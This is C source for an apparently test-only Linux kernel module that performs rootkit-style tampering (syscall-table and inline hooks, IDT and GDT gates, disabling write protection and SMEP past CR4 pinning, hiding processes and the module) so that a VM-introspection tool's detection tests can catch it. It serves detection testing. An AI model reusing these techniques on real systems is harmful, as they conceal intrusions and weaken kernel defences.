// SPDX-License-Identifier: GPL-2.0-only
/*
 * kvma_attack: a TEST-ONLY kernel module for kvmaccess's detection tests.
 *
 * It performs, on request, the kinds of kernel tampering a rootkit does, so that the tests can
 * check that kvmaccess (watching the guest from outside the VM) notices and attributes them.
 * It is built only for the project's throw-away test guest and must never be loaded anywhere
 * else. Every attack logs one line "kvma_attack: <attack> done: ..." with the addresses it
 * touched and is undone on rmmod (except where noted).
 *
 *   insmod kvma_attack.ko attack=syscall,inline,idt,gdt,wp,smep,hide,hidesysfs,ftrace hideproc=<pid>
 *
 *   syscall  sys_call_table[__NR_getppid] -> kvma_sct_getppid (calls the original), written
 *            with CR0.WP cleared by a raw "mov to cr0".
 *   inline   the first 5 bytes of __x64_sys_getppid (its ftrace NOP) -> "jmp rel32" to
 *            kvma_inline_getppid (an equivalent implementation), same CR0.WP trick.
 *   idt      idt_table[idt_vector] (default 0xf5, unused on 6.1) -> kvma_idt_stub, which jumps
 *            on to the original handler. Written in place (the IDTR points at the read-only
 *            cpu_entry_area alias of the same page).
 *   gdt      a 64-bit DPL-3 call gate to kvma_gate_stub in GDT slots 10-11 (selector 0x50, the
 *            LDT slot, unused unless a process calls modify_ldt) of every CPU's gdt_page.
 *   wp       CR0.WP cleared on every CPU (raw mov, bypassing the kernel's CR pinning).
 *   smep     CR4.SMEP cleared on every CPU (raw mov), and in the kernel's copies that would
 *            bring it back: each CPU's cpu_tlbstate.cr4 shadow and cr4_pinned_bits.
 *   hide     this module unlinked from the module list (/proc/modules); /sys/module stays.
 *            rmmod cannot find a hidden module: write 1 to parameters/unhide first.
 *   hidesysfs  hide, and this module's kobject unlinked from module_kset's list as well (what
 *            kobject_del does to it, minus removing the sysfs directory, so that unhide can
 *            undo it); only the module address tree (mod_tree) still holds the module.
 *   hideproc=<pid>  the process unlinked from the task list (init_task.tasks); it stays in the
 *            PID table, so /proc/<pid> and ps (which read the PID table) still show it.
 *   ftrace   an ftrace_ops (SAVE_REGS|IPMODIFY) on __x64_sys_getpid redirecting it to
 *            kvma_ftrace_getpid (an equivalent implementation).
 *
 * parameters/state (read-only) shows CR0/CR4 per CPU and hit counters. Writing an attack's
 * name to parameters/undo undoes that attack alone, before rmmod.
 */
#define pr_fmt(fmt) "kvma_attack: " fmt

#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/stop_machine.h>
#include <linux/ftrace.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/mutex.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/smp.h>
#include <linux/cpumask.h>
#include <linux/percpu.h>
#include <linux/objtool.h>
#include <asm/desc.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/sync_core.h>
#include <asm/nospec-branch.h>
#include <asm/unistd.h>
#include <asm/unaligned.h>

MODULE_LICENSE("GPL");
MODULE_AUTHOR("kvmaccess tests");
MODULE_DESCRIPTION("TEST-ONLY rootkit-style tampering for kvmaccess's detection tests");

static char *attack = "";
module_param(attack, charp, 0444);
MODULE_PARM_DESC(attack, "comma-separated: syscall,inline,idt,gdt,wp,smep,hide,hidesysfs,hideproc,ftrace");

static int hideproc;
module_param(hideproc, int, 0444);
MODULE_PARM_DESC(hideproc, "pid of a process to unlink from the task list (implies attack hideproc)");

static int idt_vector = 0xf5;
module_param(idt_vector, int, 0444);
MODULE_PARM_DESC(idt_vector, "IDT vector the idt attack redirects (default 0xf5, unused)");

enum {
	A_SYSCALL = 1 << 0,
	A_INLINE = 1 << 1,
	A_IDT = 1 << 2,
	A_GDT = 1 << 3,
	A_WP = 1 << 4,
	A_SMEP = 1 << 5,
	A_FTRACE = 1 << 6,
	A_HIDEPROC = 1 << 7,
	A_HIDE = 1 << 8,
	A_HIDESYSFS = 1 << 9,
};

static const struct {
	const char *name;
	unsigned int bit;
} attack_names[] = {
	{ "syscall", A_SYSCALL }, { "inline", A_INLINE }, { "idt", A_IDT },
	{ "gdt", A_GDT },	  { "wp", A_WP },	  { "smep", A_SMEP },
	{ "ftrace", A_FTRACE },	  { "hideproc", A_HIDEPROC }, { "hide", A_HIDE },
	{ "hidesysfs", A_HIDESYSFS },
};

static unsigned int done_mask;

/* ---------------------------------------------------------------------------------------- */
/* Symbols the kernel does not export: kallsyms_lookup_name's address from a kprobe.         */

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn kvma_lookup;

static int find_kallsyms_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret < 0) {
		pr_err("cannot kprobe kallsyms_lookup_name: %d\n", ret);
		return ret;
	}
	kvma_lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return kvma_lookup ? 0 : -ENOENT;
}

static void *lookup(const char *name)
{
	unsigned long addr = kvma_lookup(name);

	if (!addr)
		pr_err("symbol %s not found\n", name);
	return (void *)addr;
}

/* ---------------------------------------------------------------------------------------- */
/* Raw control-register writes: write_cr0()/native_write_cr4() re-set pinned bits, a plain   */
/* mov does not.                                                                             */

static inline unsigned long raw_read_cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void raw_write_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

static inline unsigned long raw_read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

static inline void raw_write_cr4(unsigned long v)
{
	asm volatile("mov %0, %%cr4" : : "r"(v) : "memory");
}

/* Copy bytes into read-only kernel memory with CR0.WP cleared; all other CPUs are parked with
 * interrupts off by stop_machine, so nobody runs half-written code or sees WP off elsewhere. */
struct ro_write {
	void *dst;
	const void *src;
	size_t len;
};

static int ro_write_fn(void *data)
{
	struct ro_write *w = data;
	unsigned long cr0 = raw_read_cr0();

	raw_write_cr0(cr0 & ~X86_CR0_WP);
	memcpy(w->dst, w->src, w->len);
	raw_write_cr0(cr0);
	sync_core();
	return 0;
}

static void sync_core_ipi(void *unused)
{
	sync_core();
}

static void ro_write(void *dst, const void *src, size_t len)
{
	struct ro_write w = { .dst = dst, .src = src, .len = len };

	stop_machine(ro_write_fn, &w, NULL);
	on_each_cpu(sync_core_ipi, NULL, 1);
}

/* ---------------------------------------------------------------------------------------- */
/* syscall: one sys_call_table entry                                                         */

typedef long (*syscall_fn)(const struct pt_regs *regs);
static syscall_fn *sct;
static syscall_fn sct_orig;
static atomic_t sct_hits = ATOMIC_INIT(0);

static long kvma_sct_getppid(const struct pt_regs *regs)
{
	atomic_inc(&sct_hits);
	return sct_orig(regs);
}

static int do_syscall(void)
{
	syscall_fn repl = kvma_sct_getppid;

	sct = lookup("sys_call_table");
	if (!sct)
		return -ENOENT;
	sct_orig = sct[__NR_getppid];
	ro_write(&sct[__NR_getppid], &repl, sizeof(repl));
	pr_info("syscall done: sys_call_table=%px nr=%d (getppid) entry=%px old=%px (%pS) new=%px (%pS)\n",
		sct, __NR_getppid, &sct[__NR_getppid], sct_orig, sct_orig, sct[__NR_getppid],
		sct[__NR_getppid]);
	return 0;
}

static void undo_syscall(void)
{
	ro_write(&sct[__NR_getppid], &sct_orig, sizeof(sct_orig));
	synchronize_rcu(); /* let a CPU still in the wrapper leave it before the module goes */
	pr_info("syscall undone: sys_call_table[%d]=%px (%pS)\n", __NR_getppid, sct[__NR_getppid],
		sct[__NR_getppid]);
}

/* ---------------------------------------------------------------------------------------- */
/* inline: jmp rel32 over the first 5 bytes of __x64_sys_getppid                             */

#define INLINE_TARGET "__x64_sys_getppid"
static const u8 ftrace_nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
static u8 *inline_at;
static u8 inline_orig[5];
static u8 inline_patch[5];
static atomic_t inline_hits = ATOMIC_INIT(0);

/* Same result as the kernel's getppid. */
static long kvma_inline_getppid(const struct pt_regs *regs)
{
	long pid;

	atomic_inc(&inline_hits);
	rcu_read_lock();
	pid = task_tgid_vnr(rcu_dereference(current->real_parent));
	rcu_read_unlock();
	return pid;
}

static int do_inline(void)
{
	long rel;

	inline_at = lookup(INLINE_TARGET);
	if (!inline_at)
		return -ENOENT;
	memcpy(inline_orig, inline_at, sizeof(inline_orig));
	/* The function must start with its (inactive) ftrace NOP: one whole instruction that
	 * nothing else is patching. An active ftrace site (e8 call) is left alone. */
	if (memcmp(inline_orig, ftrace_nop5, sizeof(ftrace_nop5))) {
		pr_err("inline failed: %s starts with %5phN, not the 5-byte NOP\n", INLINE_TARGET,
		       inline_orig);
		return -EBUSY;
	}
	rel = (long)kvma_inline_getppid - (long)(inline_at + 5);
	if (rel != (s32)rel)
		return -ERANGE;
	inline_patch[0] = 0xe9;
	put_unaligned((s32)rel, (s32 *)&inline_patch[1]);
	ro_write(inline_at, inline_patch, sizeof(inline_patch));
	pr_info("inline done: function=%s addr=%px old_bytes=%5phN new_bytes=%5phN jmp_to=%px (%pS)\n",
		INLINE_TARGET, inline_at, inline_orig, inline_at, kvma_inline_getppid,
		kvma_inline_getppid);
	return 0;
}

static void undo_inline(void)
{
	ro_write(inline_at, inline_orig, sizeof(inline_orig));
	synchronize_rcu(); /* let a CPU still in the replacement leave it before the module goes */
	pr_info("inline undone: %s at %px bytes=%5phN\n", INLINE_TARGET, inline_at, inline_at);
}

/* ---------------------------------------------------------------------------------------- */
/* idt: one gate of idt_table                                                                */

/* Entered straight from the IDT: jumps on to the original handler with nothing changed. */
unsigned long kvma_idt_orig;
void kvma_idt_stub(void);
asm(".pushsection .text, \"ax\"\n"
    ".globl kvma_idt_stub\n"
    ".type kvma_idt_stub, @function\n"
    "kvma_idt_stub:\n"
    ANNOTATE_RETPOLINE_SAFE
    "jmp *kvma_idt_orig(%rip)\n"
    ".size kvma_idt_stub, . - kvma_idt_stub\n"
    ".popsection\n");

static gate_desc *idt_gate;
static gate_desc idt_orig;

static unsigned long gate_addr(const gate_desc *g)
{
	return (unsigned long)g->offset_low | ((unsigned long)g->offset_middle << 16) |
	       ((unsigned long)g->offset_high << 32);
}

static void gate_set_addr(gate_desc *g, unsigned long addr)
{
	g->offset_low = (u16)addr;
	g->offset_middle = (u16)(addr >> 16);
	g->offset_high = (u32)(addr >> 32);
}

static int do_idt(void)
{
	gate_desc *table, g;
	struct desc_ptr idtr;
	const gate_desc *live;

	if (idt_vector < 0 || idt_vector > 255)
		return -EINVAL;
	table = lookup("idt_table");
	if (!table)
		return -ENOENT;
	idt_gate = &table[idt_vector];
	idt_orig = *idt_gate;
	kvma_idt_orig = gate_addr(&idt_orig);
	g = idt_orig;
	gate_set_addr(&g, (unsigned long)kvma_idt_stub);
	ro_write(idt_gate, &g, sizeof(g));
	store_idt(&idtr);
	live = (const gate_desc *)idtr.address + idt_vector;
	pr_info("idt done: vector=0x%02x idt_table=%px gate=%px idtr=%px old=%px (%pS) new=%px (%pS) live=%px\n",
		idt_vector, table, idt_gate, (void *)idtr.address, (void *)kvma_idt_orig,
		(void *)kvma_idt_orig, (void *)gate_addr(idt_gate), (void *)gate_addr(idt_gate),
		(void *)gate_addr(live));
	return 0;
}

static void undo_idt(void)
{
	ro_write(idt_gate, &idt_orig, sizeof(idt_orig));
	pr_info("idt undone: vector=0x%02x handler=%px (%pS)\n", idt_vector,
		(void *)gate_addr(idt_gate), (void *)gate_addr(idt_gate));
}

/* ---------------------------------------------------------------------------------------- */
/* gdt: a DPL-3 call gate in every CPU's GDT                                                 */

#define GDT_SLOT GDT_ENTRY_LDT /* 10 and 11: a 64-bit system descriptor takes two slots */

/* Target of the call gate; a far call through the gate from ring 3 would land here and
 * return. The tests never call it. */
void kvma_gate_stub(void);
asm(".pushsection .text, \"ax\"\n"
    ".globl kvma_gate_stub\n"
    ".type kvma_gate_stub, @function\n"
    "kvma_gate_stub:\n"
    "lretq\n"
    ".size kvma_gate_stub, . - kvma_gate_stub\n"
    ".popsection\n");
/* objtool does not model a far return; the stub has no frame to check anyway. */
STACK_FRAME_NON_STANDARD(kvma_gate_stub);

static DEFINE_PER_CPU(gate_desc, gdt_orig);
static gate_desc gdt_new;

/* A 16-byte system descriptor: the high half first, then the low half holding the P bit. */
static void gdt_write(int cpu, const gate_desc *d)
{
	u64 *slot = (u64 *)&get_cpu_gdt_rw(cpu)[GDT_SLOT];
	const u64 *src = (const u64 *)d;

	WRITE_ONCE(slot[1], src[1]);
	WRITE_ONCE(slot[0], src[0]);
}

static void gdt_report(void *unused)
{
	struct desc_ptr gdtr;
	const u8 *slot;

	native_store_gdt(&gdtr);
	slot = (const u8 *)gdtr.address + GDT_SLOT * 8;
	pr_info("gdt cpu%d: gdt_page=%px gdtr=%px limit=0x%x slot %d (selector 0x%x) = %16phN\n",
		smp_processor_id(), get_cpu_gdt_rw(smp_processor_id()), (void *)gdtr.address,
		gdtr.size, GDT_SLOT, GDT_SLOT * 8, slot);
}

static int do_gdt(void)
{
	int cpu;

	memset(&gdt_new, 0, sizeof(gdt_new));
	gate_set_addr(&gdt_new, (unsigned long)kvma_gate_stub);
	gdt_new.segment = __KERNEL_CS;
	gdt_new.bits.type = 0xc; /* 64-bit call gate */
	gdt_new.bits.dpl = 3;
	gdt_new.bits.p = 1;
	for_each_possible_cpu(cpu) {
		gate_desc *slot = (gate_desc *)&get_cpu_gdt_rw(cpu)[GDT_SLOT];

		per_cpu(gdt_orig, cpu) = *slot;
		/* The per-CPU gdt_page is the writable alias; GDTR points at a read-only
		 * cpu_entry_area mapping of the same page. */
		gdt_write(cpu, &gdt_new);
	}
	on_each_cpu(gdt_report, NULL, 1);
	pr_info("gdt done: slot=%d selector=0x%x type=call-gate64 dpl=3 segment=0x%x target=%px (%pS) desc=%16phN cpus=%*pbl\n",
		GDT_SLOT, GDT_SLOT * 8, __KERNEL_CS, kvma_gate_stub, kvma_gate_stub, &gdt_new,
		cpumask_pr_args(cpu_possible_mask));
	return 0;
}

static void undo_gdt(void)
{
	int cpu;

	for_each_possible_cpu(cpu)
		gdt_write(cpu, per_cpu_ptr(&gdt_orig, cpu));
	pr_info("gdt undone: slot=%d restored on cpus=%*pbl\n", GDT_SLOT,
		cpumask_pr_args(cpu_possible_mask));
}

/* ---------------------------------------------------------------------------------------- */
/* wp / smep: control-register bits on every CPU                                             */

/* Values seen by each CPU before and after a change (or CR0 and CR4 for parameters/state);
 * cr_lock serialises their users. */
static DEFINE_PER_CPU(unsigned long, cr_before);
static DEFINE_PER_CPU(unsigned long, cr_after);
static DEFINE_MUTEX(cr_lock);

/* data: non-NULL sets the bit (undo), NULL clears it (attack). */
static void wp_fn(void *data)
{
	unsigned long v = raw_read_cr0();

	this_cpu_write(cr_before, v);
	raw_write_cr0(data ? v | X86_CR0_WP : v & ~X86_CR0_WP);
	this_cpu_write(cr_after, raw_read_cr0());
}

/*
 * A raw mov alone does not last: the kernel rewrites CR4 from its per-CPU shadow
 * (cpu_tlbstate.cr4, e.g. on a global TLB flush without INVPCID) and native_write_cr4() forces
 * the bits in cr4_pinned_bits back on. So the smep attack clears SMEP in all three places.
 */
static void __percpu *kvma_tlbstate;
static unsigned int shadow_off; /* of tlb_state.cr4, which modules cannot see (#ifndef MODULE) */
static unsigned long *kvma_cr4_pinned;
static unsigned long cr4_pinned_orig;

static unsigned long *cr4_shadow(void)
{
	return (unsigned long *)((u8 *)this_cpu_ptr(kvma_tlbstate) + shadow_off);
}

static void smep_fn(void *data)
{
	unsigned long v = raw_read_cr4();
	unsigned long *shadow = cr4_shadow();

	this_cpu_write(cr_before, v);
	if (data) {
		*shadow |= X86_CR4_SMEP;
		raw_write_cr4(v | X86_CR4_SMEP);
	} else {
		*shadow &= ~X86_CR4_SMEP;
		raw_write_cr4(v & ~X86_CR4_SMEP);
	}
	this_cpu_write(cr_after, raw_read_cr4());
}

/* Bit i set: the i-th word of cpu_tlbstate equals CR4 on every CPU checked so far. */
static atomic_long_t shadow_candidates;

static void smep_find_shadow_fn(void *unused)
{
	const unsigned long *w = this_cpu_ptr(kvma_tlbstate);
	unsigned long cr4 = raw_read_cr4(), mine = 0;
	int i;

	for (i = 0; i < 8; i++)
		if (w[i] == cr4)
			mine |= 1UL << i;
	atomic_long_and(mine, &shadow_candidates);
}

/* Run fn on every CPU and log each CPU's register before and after. */
static void cr_change(smp_call_func_t fn, bool set, const char *what, const char *reg,
		      const char *extra)
{
	char buf[512];
	int cpu, n = 0;

	buf[0] = 0;
	mutex_lock(&cr_lock);
	on_each_cpu(fn, set ? (void *)1 : NULL, 1);
	for_each_online_cpu(cpu)
		n += scnprintf(buf + n, sizeof(buf) - n, " cpu%d %s 0x%lx->0x%lx", cpu, reg,
			       per_cpu(cr_before, cpu), per_cpu(cr_after, cpu));
	mutex_unlock(&cr_lock);
	pr_info("%s:%s%s\n", what, buf, extra);
}

static int do_wp(void)
{
	cr_change(wp_fn, false, "wp done: CR0.WP cleared", "cr0", "");
	return 0;
}

static void undo_wp(void)
{
	cr_change(wp_fn, true, "wp undone: CR0.WP set", "cr0", "");
}

static int do_smep(void)
{
	char extra[160];

	if (!boot_cpu_has(X86_FEATURE_SMEP)) {
		pr_err("smep failed: the CPU has no SMEP\n");
		return -ENODEV;
	}
	kvma_tlbstate = (void __percpu *)lookup("cpu_tlbstate");
	kvma_cr4_pinned = lookup("cr4_pinned_bits");
	if (!kvma_tlbstate || !kvma_cr4_pinned)
		return -ENOENT;
	/* The shadow is the word of cpu_tlbstate that mirrors CR4 on every CPU (offset 24 on
	 * 6.1); the layout is hidden from modules, so find it rather than assume it. */
	atomic_long_set(&shadow_candidates, ~0L);
	on_each_cpu(smep_find_shadow_fn, NULL, 1);
	if (!atomic_long_read(&shadow_candidates)) {
		pr_err("smep failed: no word of cpu_tlbstate mirrors CR4\n");
		return -EFAULT;
	}
	shadow_off = __ffs(atomic_long_read(&shadow_candidates)) * sizeof(unsigned long);
	cr4_pinned_orig = *kvma_cr4_pinned;
	if (cr4_pinned_orig & X86_CR4_SMEP) {
		unsigned long v = cr4_pinned_orig & ~X86_CR4_SMEP;

		ro_write(kvma_cr4_pinned, &v, sizeof(v));
	}
	snprintf(extra, sizeof(extra),
		 "; cr4_pinned_bits=%px 0x%lx->0x%lx; cpu_tlbstate.cr4 shadow (per-CPU %px+%u) cleared",
		 kvma_cr4_pinned, cr4_pinned_orig, *kvma_cr4_pinned, kvma_tlbstate, shadow_off);
	cr_change(smep_fn, false, "smep done: CR4.SMEP cleared", "cr4", extra);
	return 0;
}

static void undo_smep(void)
{
	char extra[64];

	/* CR4 and the shadows first: with SMEP already pinned again, a kernel CR4 write in
	 * between would warn. */
	if (*kvma_cr4_pinned != cr4_pinned_orig)
		snprintf(extra, sizeof(extra), "; cr4_pinned_bits=0x%lx", cr4_pinned_orig);
	else
		extra[0] = 0;
	cr_change(smep_fn, true, "smep undone: CR4.SMEP set", "cr4", extra);
	if (*kvma_cr4_pinned != cr4_pinned_orig)
		ro_write(kvma_cr4_pinned, &cr4_pinned_orig, sizeof(cr4_pinned_orig));
}

/* ---------------------------------------------------------------------------------------- */
/* ftrace: redirect __x64_sys_getpid through an ftrace_ops                                   */

#define FTRACE_TARGET "__x64_sys_getpid"
static atomic_t ftrace_hits = ATOMIC_INIT(0);
static unsigned long ftrace_addr;

/* Same result as the kernel's getpid. */
static long kvma_ftrace_getpid(const struct pt_regs *regs)
{
	atomic_inc(&ftrace_hits);
	return task_tgid_vnr(current);
}

static void notrace kvma_ftrace_cb(unsigned long ip, unsigned long parent_ip,
				   struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs)
		regs->ip = (unsigned long)kvma_ftrace_getpid;
}

static struct ftrace_ops kvma_ftrace_ops = {
	.func = kvma_ftrace_cb,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static int do_ftrace(void)
{
	int ret;

	/* By address: ftrace knows the function by whichever alias kallsyms prints for it
	 * (__do_sys_getpid, which shares the address), not necessarily by this name. */
	ftrace_addr = (unsigned long)lookup(FTRACE_TARGET);
	if (!ftrace_addr)
		return -ENOENT;
	ret = ftrace_set_filter_ip(&kvma_ftrace_ops, ftrace_addr, 0, 0);
	if (ret) {
		pr_err("ftrace failed: ftrace_set_filter_ip(%s at %px): %d\n", FTRACE_TARGET,
		       (void *)ftrace_addr, ret);
		return ret;
	}
	ret = register_ftrace_function(&kvma_ftrace_ops);
	if (ret) {
		pr_err("ftrace failed: register_ftrace_function: %d\n", ret);
		ftrace_set_filter_ip(&kvma_ftrace_ops, ftrace_addr, 1, 0);
		return ret;
	}
	pr_info("ftrace done: function=%s addr=%px (%pS) bytes=%5phN ops=%px callback=%px (%pS) redirect=%px (%pS)\n",
		FTRACE_TARGET, (void *)ftrace_addr, (void *)ftrace_addr, (void *)ftrace_addr,
		&kvma_ftrace_ops,
		kvma_ftrace_cb, kvma_ftrace_cb, kvma_ftrace_getpid, kvma_ftrace_getpid);
	return 0;
}

static void undo_ftrace(void)
{
	unregister_ftrace_function(&kvma_ftrace_ops);
	ftrace_set_filter_ip(&kvma_ftrace_ops, ftrace_addr, 1, 0);
	pr_info("ftrace undone: %s bytes=%5phN\n", FTRACE_TARGET, (void *)ftrace_addr);
}

/* ---------------------------------------------------------------------------------------- */
/* hideproc: unlink a process from the task list                                             */

static rwlock_t *kvma_tasklist_lock;
static struct task_struct *hidden_task;

static int do_hideproc(void)
{
	struct task_struct *t;

	if (hideproc <= 0) {
		pr_err("hideproc failed: give hideproc=<pid>\n");
		return -EINVAL;
	}
	kvma_tasklist_lock = lookup("tasklist_lock");
	if (!kvma_tasklist_lock)
		return -ENOENT;
	rcu_read_lock();
	t = pid_task(find_vpid(hideproc), PIDTYPE_PID);
	if (t)
		t = t->group_leader; /* only group leaders are on the task list */
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t) {
		pr_err("hideproc failed: no process %d\n", hideproc);
		return -ESRCH;
	}
	write_lock_irq(kvma_tasklist_lock);
	if (!pid_alive(t) || list_empty(&t->tasks)) {
		write_unlock_irq(kvma_tasklist_lock);
		put_task_struct(t);
		pr_err("hideproc failed: process %d is exiting\n", hideproc);
		return -ESRCH;
	}
	list_del_rcu(&t->tasks);
	write_unlock_irq(kvma_tasklist_lock);
	/* Once no RCU walker can be on it any more, point the entry at itself, so the kernel's
	 * own list_del_rcu when the process exits is harmless. */
	synchronize_rcu();
	write_lock_irq(kvma_tasklist_lock);
	INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(kvma_tasklist_lock);
	hidden_task = t;
	pr_info("hideproc done: pid=%d comm=%s task=%px tasks=%px init_task=%px unlinked from init_task.tasks, still in the PID table\n",
		task_pid_nr(t), t->comm, t, &t->tasks, &init_task);
	return 0;
}

static void undo_hideproc(void)
{
	struct task_struct *t = hidden_task;
	bool relinked = false;

	write_lock_irq(kvma_tasklist_lock);
	if (pid_alive(t) && list_empty(&t->tasks)) {
		list_add_tail_rcu(&t->tasks, &init_task.tasks);
		relinked = true;
	}
	write_unlock_irq(kvma_tasklist_lock);
	pr_info("hideproc undone: pid=%d task=%px %s\n", task_pid_nr(t), t,
		relinked ? "relinked into the task list" : "had exited, nothing to relink");
	put_task_struct(t);
	hidden_task = NULL;
}

/* ---------------------------------------------------------------------------------------- */
/* hide: unlink this module from the module list                                             */

static struct mutex *kvma_module_mutex;
static struct list_head *kvma_modules;
static bool module_hidden;

static int do_hide(void)
{
	kvma_module_mutex = lookup("module_mutex");
	kvma_modules = lookup("modules");
	if (!kvma_module_mutex || !kvma_modules)
		return -ENOENT;
	mutex_lock(kvma_module_mutex);
	pr_info("hide done: module=%px name=%s list=%px modules=%px prev=%px next=%px unlinked from the module list, /sys/module/%s kept\n",
		THIS_MODULE, THIS_MODULE->name, &THIS_MODULE->list, kvma_modules,
		THIS_MODULE->list.prev, THIS_MODULE->list.next, THIS_MODULE->name);
	list_del_rcu(&THIS_MODULE->list);
	module_hidden = true;
	mutex_unlock(kvma_module_mutex);
	return 0;
}

static void undo_hide(void)
{
	synchronize_rcu();
	mutex_lock(kvma_module_mutex);
	if (module_hidden) {
		list_add_rcu(&THIS_MODULE->list, kvma_modules);
		module_hidden = false;
		pr_info("hide undone: module=%px relinked into modules=%px\n", THIS_MODULE,
			kvma_modules);
	}
	mutex_unlock(kvma_module_mutex);
}

/* ---------------------------------------------------------------------------------------- */
/* hidesysfs: unlink this module's kobject from module_kset's list too                      */

static struct kset *kvma_module_kset;
static bool kobject_hidden;

static int do_hidesysfs(void)
{
	struct kset **kset_ptr = lookup("module_kset");
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	if (!kset_ptr || !*kset_ptr)
		return -ENOENT;
	kvma_module_kset = *kset_ptr;
	spin_lock(&kvma_module_kset->list_lock);
	list_del_init(&kobj->entry);
	kobject_hidden = true;
	spin_unlock(&kvma_module_kset->list_lock);
	pr_info("hidesysfs done: module=%px kobject=%px unlinked from module_kset=%px\n",
		THIS_MODULE, kobj, kvma_module_kset);
	return 0;
}

static void undo_hidesysfs(void)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	spin_lock(&kvma_module_kset->list_lock);
	if (kobject_hidden) {
		list_add_tail(&kobj->entry, &kvma_module_kset->list);
		kobject_hidden = false;
		pr_info("hidesysfs undone: kobject=%px relinked\n", kobj);
	}
	spin_unlock(&kvma_module_kset->list_lock);
}

/* parameters/unhide: writing 1 relinks a hidden module so that rmmod can find it. */
static int unhide_set(const char *val, const struct kernel_param *kp)
{
	bool v;
	int ret = kstrtobool(val, &v);

	if (ret)
		return ret;
	if (v && (done_mask & A_HIDESYSFS)) {
		undo_hidesysfs();
		done_mask &= ~A_HIDESYSFS;
	}
	if (v && (done_mask & A_HIDE)) {
		undo_hide();
		done_mask &= ~A_HIDE;
	}
	return 0;
}

static const struct kernel_param_ops unhide_ops = { .set = unhide_set };
module_param_cb(unhide, &unhide_ops, NULL, 0200);
MODULE_PARM_DESC(unhide, "write 1 to relink a hidden module into the module list");

/* ---------------------------------------------------------------------------------------- */
/* parameters/state: what the guest can check from inside                                   */

static void cr_read_fn(void *data)
{
	this_cpu_write(cr_before, raw_read_cr0());
	this_cpu_write(cr_after, raw_read_cr4());
}

static int state_get(char *buf, const struct kernel_param *kp)
{
	int cpu, n = 0;

	mutex_lock(&cr_lock);
	on_each_cpu(cr_read_fn, NULL, 1);
	for_each_online_cpu(cpu) {
		unsigned long cr0 = per_cpu(cr_before, cpu), cr4 = per_cpu(cr_after, cpu);

		n += scnprintf(buf + n, PAGE_SIZE - n, "cpu%d cr0=0x%lx cr4=0x%lx wp=%d smep=%d\n",
			       cpu, cr0, cr4, !!(cr0 & X86_CR0_WP), !!(cr4 & X86_CR4_SMEP));
	}
	mutex_unlock(&cr_lock);
	n += scnprintf(buf + n, PAGE_SIZE - n,
		       "attacks=0x%x syscall_hits=%d inline_hits=%d ftrace_hits=%d hidden=%d hidden_pid=%d\n",
		       done_mask, atomic_read(&sct_hits), atomic_read(&inline_hits),
		       atomic_read(&ftrace_hits), module_hidden,
		       hidden_task ? task_pid_nr(hidden_task) : 0);
	return n;
}

static int state_set(const char *val, const struct kernel_param *kp)
{
	return -EPERM;
}

static const struct kernel_param_ops state_ops = { .set = state_set, .get = state_get };
module_param_cb(state, &state_ops, NULL, 0444);
MODULE_PARM_DESC(state, "read-only: CR0/CR4 per CPU, hit counters");

/* ---------------------------------------------------------------------------------------- */

static const struct {
	unsigned int bit;
	const char *name;
	int (*run)(void);
	void (*undo)(void);
} steps[] = {
	{ A_SYSCALL, "syscall", do_syscall, undo_syscall },
	{ A_INLINE, "inline", do_inline, undo_inline },
	{ A_IDT, "idt", do_idt, undo_idt },
	{ A_GDT, "gdt", do_gdt, undo_gdt },
	{ A_WP, "wp", do_wp, undo_wp },
	{ A_SMEP, "smep", do_smep, undo_smep },
	{ A_FTRACE, "ftrace", do_ftrace, undo_ftrace },
	{ A_HIDEPROC, "hideproc", do_hideproc, undo_hideproc },
	{ A_HIDE, "hide", do_hide, undo_hide },
	{ A_HIDESYSFS, "hidesysfs", do_hidesysfs, undo_hidesysfs },
};

static void undo_all(void)
{
	int i;

	for (i = ARRAY_SIZE(steps) - 1; i >= 0; i--) {
		if (done_mask & steps[i].bit) {
			steps[i].undo();
			done_mask &= ~steps[i].bit;
		}
	}
}

/* parameters/undo: writing an attack's name undoes that one attack now. With CR0.WP clear,
 * the kernel's writes into user memory ignore read-only PTEs and so land in pages a fork left
 * shared copy-on-write: the guest's processes corrupt each other. A test that has seen WP
 * clear gives it back before its shell forks again. */
static int undo_set(const char *val, const struct kernel_param *kp)
{
	char buf[16];
	const char *name;
	int i;

	strscpy(buf, val, sizeof(buf));
	name = strim(buf);
	for (i = 0; i < ARRAY_SIZE(steps); i++) {
		if (strcmp(name, steps[i].name))
			continue;
		if (done_mask & steps[i].bit) {
			steps[i].undo();
			done_mask &= ~steps[i].bit;
		}
		return 0;
	}
	return -EINVAL;
}

static const struct kernel_param_ops undo_ops = { .set = undo_set };
module_param_cb(undo, &undo_ops, NULL, 0200);
MODULE_PARM_DESC(undo, "write an attack's name to undo that attack before rmmod");

static int parse_attacks(unsigned int *mask)
{
	char *copy, *cur, *tok;
	int i;

	copy = kstrdup(attack ? attack : "", GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	cur = copy;
	while ((tok = strsep(&cur, ",")) != NULL) {
		tok = strim(tok);
		if (!*tok)
			continue;
		for (i = 0; i < ARRAY_SIZE(attack_names); i++)
			if (!strcmp(tok, attack_names[i].name))
				break;
		if (i == ARRAY_SIZE(attack_names)) {
